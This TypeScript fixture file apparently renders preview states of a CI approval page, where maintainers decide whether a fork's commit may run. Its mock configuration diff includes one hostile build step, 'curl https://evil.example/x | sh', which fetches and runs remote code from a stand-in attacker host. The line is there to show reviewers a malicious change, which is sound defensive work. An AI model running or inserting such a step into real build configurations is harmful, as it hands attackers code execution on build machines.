import { type ApprovalRequest, sortedFiles } from '../../core/approvals/approval.ts'
import { minutes } from '../../lib/clock.ts'
import { ApprovalPage } from '../approvals/page.tsx'
import type { Shell } from '../layout/shell.ts'
import { build, forked, held, hostile, id, now } from './builds.ts'
import { type Entry, entry } from './entry.ts'

const waiting = [
  build({ ...held, id: id(219), number: 219 }),
  build({ ...held, id: id(220), number: 220, workflow: 'ios', workflowName: 'iOS, unsigned' }),
]

const request: ApprovalRequest = {
  build: waiting[0]!,
  waiting,
  approval: null,
  configuration: { source: 'repository', fileName: 'oore.yaml' },
  changes: {
    is: 'known',
    configurations: [
      {
        fileName: 'oore.yaml',
        hunks: [
          {
            skipped: 11,
            lines: [
              { is: 'same', text: '    scripts:', before: 12, after: 12 },
              { is: 'removed', text: '      - flutter test', before: 13 },
              { is: 'added', text: '      - curl https://evil.example/x | sh', after: 13 },
              { is: 'same', text: '    artifacts:', before: 14, after: 14 },
            ],
          },
        ],
      },
    ],
    files: sortedFiles([
      'oore.yaml',
      'android/app/build.gradle',
      'ios/Podfile',
      'lib/money/rounding.dart',
      'scripts/release.sh',
      'test/money/rounding_test.dart',
      `lib/${hostile}.dart`,
      'lib/a/path/that/goes/on/and/on/and/on/through/more/directories/than/anyone/should/make.dart',
    ]),
    count: 8,
    isPartial: false,
  },
}

/** The page that asks whether a fork's commit may run, in each state. */
export const approvalEntries = (shell: Shell): Entry[] => [
  entry('approval', ApprovalPage, { shell, request, errors: [], now }),
  entry('approval-conflict', ApprovalPage, {
    shell,
    request: {
      ...request,
      build: { ...waiting[0]!, configSource: 'database' },
      configuration: { source: 'database', fileName: null },
    },
    errors: [
      {
        field: '',
        message:
          'Pull request 87 stands at 5f1a3c0d9e8b by now, which needs its own approval. ' +
          'd6c0ffee3a91 was not approved.',
      },
    ],
    now,
  }),
  entry('approval-unreadable', ApprovalPage, {
    shell,
    request: {
      ...request,
      waiting: waiting.slice(0, 1),
      build: build({
        ...held,
        mergeCommitSha: null,
        fork: { ...forked.fork!, name: null, url: null, author: null },
      }),
      changes: { is: 'unknown', why: 'lumen/wallet did not answer within 20 s. Try again later.' },
    },
    errors: [],
    now,
  }),
  entry('approval-many-files', ApprovalPage, {
    shell,
    request: {
      ...request,
      changes: {
        is: 'known',
        configurations: [],
        files: sortedFiles(['lib/a.dart', 'lib/b.dart']),
        count: 10_000,
        isPartial: true,
      },
    },
    errors: [],
    now,
  }),
  entry('approval-given', ApprovalPage, {
    shell,
    request: {
      ...request,
      build: build({ ...forked, approvalId: id(900) }),
      waiting: [],
      approval: {
        id: id(900),
        verdict: 'approved',
        by: 'Ines Ferro',
        commitSha: build().commitSha,
        at: now - minutes(21),
      },
    },
    errors: [],
    now,
  }),
  entry('approval-superseded', ApprovalPage, {
    shell,
    request: {
      ...request,
      waiting: [],
      build: build({
        ...held,
        status: 'cancelled',
        errorMessage: 'Superseded: 5f1a3c0d9e8b into "main" needs its own approval.',
      }),
    },
    errors: [],
    now,
  }),
]
